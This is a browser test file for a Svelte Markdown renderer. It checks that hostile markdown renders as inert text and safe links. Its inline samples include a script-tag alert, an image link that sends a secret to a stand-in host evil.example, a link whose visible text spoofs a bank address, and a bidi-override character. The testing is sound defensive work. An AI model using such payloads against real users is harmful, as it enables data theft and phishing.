/** A provider that writes to attack: nothing loads, nothing runs, nothing hides. In a real browser, on the real components. */
import { flushSync, mount, unmount } from 'svelte';
import { afterEach, describe, expect, it } from 'vitest';
import Markdown from './Markdown.svelte';
import { ATTACKS } from './attacks.ts';

const ALLOWED_TAGS = new Set(
  'DIV P BR HR STRONG EM DEL CODE PRE BLOCKQUOTE UL OL LI H3 TABLE THEAD TBODY TR TH TD A BDI SPAN FIGURE FIGCAPTION BUTTON svg path'.split(
    ' ',
  ),
);
const ALLOWED_ATTRIBUTES = new Set(
  'class dir href target rel referrerpolicy data-sveltekit-preload-data tabindex role aria-label aria-hidden title type scope start width height viewBox d'.split(
    ' ',
  ),
);
const LINK_REL = 'noopener noreferrer nofollow external';

let shown: Record<string, unknown> | undefined;

function show(text: string): HTMLElement {
  const target = document.createElement('div');
  document.body.append(target);
  shown = mount(Markdown, { target, props: { text } });
  flushSync();
  return target;
}

afterEach(async () => {
  if (shown) await unmount(shown);
  shown = undefined;
  document.body.replaceChildren();
});

/** Everything that the browser asked for since `before`, other than what the test page itself needs. */
function requestsFor(host: string): string[] {
  return performance
    .getEntriesByType('resource')
    .map(({ name }) => name)
    .filter((name) => name.includes(host));
}

/** Resolves after an image of our own failed to load: those before it, had there been any, have called out by then. */
async function imagesHaveFailed(): Promise<void> {
  const control = new Image();
  const failed = new Promise((resolve) => control.addEventListener('error', resolve));
  control.src = 'data:image/png;base64,none';
  await failed;
}

describe('hostile markdown', () => {
  it.each(ATTACKS)('is only text and safe links: %s', async (text) => {
    let ran = false;
    Object.assign(globalThis, { alert: () => (ran = true), pwned: () => (ran = true) });
    const target = show(text);
    for (const element of target.querySelectorAll('*')) {
      expect(ALLOWED_TAGS, element.outerHTML).toContain(element.tagName);
      for (const { name } of element.attributes)
        expect(ALLOWED_ATTRIBUTES, `${name} of ${element.outerHTML}`).toContain(name);
    }
    for (const link of target.querySelectorAll('a')) {
      expect(link.href).toMatch(/^(https?:\/\/|mailto:)/);
      expect(link.textContent, 'the whole address is visible').toBe(link.getAttribute('href'));
      expect(link.rel).toBe(LINK_REL);
      expect(link.target).toBe('_blank');
    }
    for (const element of target.querySelectorAll<HTMLElement>('[class]'))
      expect(element.getAttribute('class'), 'no class comes from the text').not.toMatch(
        /evil|composer|danger/,
      );
    await imagesHaveFailed();
    expect(ran).toBe(false);
    expect(requestsFor('evil.example')).toEqual([]);
  });

  it('shows markup as the characters it is made of', () => {
    expect(show('<script>alert(1)</script>').textContent).toContain('<script>alert(1)</script>');
  });

  it('names an image with its address, and draws none', () => {
    const target = show('![chart](https://evil.example/?q=secret)');
    expect(target.textContent).toContain('Image, not loaded: chart (https://evil.example/?q=secret)');
    expect(target.querySelector('img, picture, svg image')).toBeNull();
  });

  it('says where a link goes when its text says otherwise', () => {
    const target = show('[https://bank.example/](https://evil.example/x)');
    expect(target.textContent.trim()).toBe('https://bank.example/\u00a0(https://evil.example/x)');
  });

  it('does not let a text turn what stands around it', () => {
    const target = show('abc \u202E def\n\n`x\u202Ey`');
    expect(target.textContent).not.toContain('\u202E');
    expect(target.textContent).toContain('x⟨U+202E⟩y');
    for (const block of target.querySelectorAll('p'))
      expect(getComputedStyle(block).unicodeBidi).toBe('isolate');
  });

  it('draws ten thousand nested quotes without a stack overflow', () => {
    expect(show('>'.repeat(10_000) + ' x').textContent).toContain('x');
  });

  it('draws what people write', () => {
    const target = show(
      '# A\n\n- **b** `c`\n\n| d | e |\n|---|--:|\n| 1 | 2 |\n\n```ts\nlet f;\n```\n\n~~g~~ https://h.example',
    );
    expect(target.querySelector('h3')?.textContent).toBe('A');
    expect(target.querySelector('li strong')?.textContent).toBe('b');
    expect(target.querySelectorAll('td')).toHaveLength(2);
    expect(target.querySelector('figcaption')?.textContent).toContain('ts');
    expect(target.querySelector('a')?.href).toBe('https://h.example/');
  });
});
